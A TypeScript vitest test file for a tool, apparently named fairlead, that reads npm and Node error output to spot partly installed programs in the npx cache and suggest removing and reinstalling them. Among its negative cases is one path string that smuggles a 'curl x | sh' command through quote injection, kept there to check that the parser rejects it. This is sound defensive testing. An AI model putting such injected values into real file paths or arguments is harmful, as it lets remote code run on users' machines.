/** What npm and Node write when a program is not installed, or only in part. */
import { describe, expect, it } from "vitest";
import { classify } from "./fault.ts";
import { findInstallFailure } from "./install-failure.ts";

const folder = "/home/ann/.npm/_npx/a3241bba59c344f5";
const esm = [
  "node:internal/modules/package_json_reader:268",
  "  throw new ERR_MODULE_NOT_FOUND(packageName, fileURLToPath(base), null);",
  `Error [ERR_MODULE_NOT_FOUND]: Cannot find package 'zod' imported from ${folder}/node_modules/server/index.js`,
  "    at packageResolve (node:internal/modules/esm/resolve:768:81)",
  "Node.js v24.1.0",
].join("\n");
const commonJs = `Error: Cannot find module 'zod'\nRequire stack:\n- ${folder}/node_modules/server/index.js`;
const entry = `Error: Cannot find module '${folder}/node_modules/server/index.js'`;
const leftover = `npm error code ENOTEMPTY\nnpm error syscall rename\nnpm error path ${folder}/node_modules/zod\nnpm error ENOTEMPTY: directory not empty`;

describe("an installation that is there in part only", () => {
  it.each([esm, commonJs, entry, leftover])("%s", (stderr) =>
    expect(findInstallFailure(stderr)).toMatchObject({ kind: "incomplete", folder }),
  );

  it("is blocked, and its folder is named with the command that repairs it", () => {
    expect(classify({ what: "exit", code: 1, signal: null, stderr: esm })).toEqual({
      kind: "permanent",
      reason: "install_failed",
      message: `the program is installed in part only, in ${folder}: Cannot find package 'zod' imported from ${folder}/node_modules/server/index.js`,
      hint: `remove it with \`rm -rf '${folder}'\`, then \`fairlead conn reconnect\` installs it again`,
    });
  });

  it("is found in a folder with spaces, and by a file's address", () => {
    const path = "/Users/ann lee/.npm/_npx/a3241bba59c344f5";
    expect(findInstallFailure(`Cannot find package 'zod' imported from ${path}/x.js`)).toMatchObject({ folder: path });
    expect(findInstallFailure(`Cannot find module 'file://${path}/x.js'`)).toMatchObject({ folder: path });
  });
});

it.each([
  ["code E404\nnpm error 404 Not Found - GET https://registry.example/server", "permanent"],
  ["code ENOTFOUND\nnpm error network request to https://registry.example failed", "transient"],
  ["code EAI_AGAIN", "transient"],
  ["could not determine executable to run", "permanent"],
])("npm's refusal %s is %s", (words, kind) => {
  const found = classify({ what: "exit", code: 1, signal: null, stderr: `npm error ${words}` });
  expect(found).toMatchObject({ kind, reason: "install_failed" });
  expect(found.message).toMatch(/^npm could not install the program: /);
});

it.each([
  "Error: Cannot find module './settings.js'\n- /srv/server/index.js",
  "npm error code ELIFECYCLE\nnpm error Exit status 1",
  "npm error Lifecycle script `start` failed with error:\nnpm error code 1",
  `Cannot find package 'zod' imported from /home/ann'; curl x | sh; '/_npx/not-a-hash/x.js`,
  "Cannot find package 'zod' imported from /home/ann/.npm/_npx/../_npx/a3241bba59c344f5/x.js",
  "cannot find my configuration",
])("is no failure of an installation: %s", (stderr) => expect(findInstallFailure(stderr)).toBeUndefined());
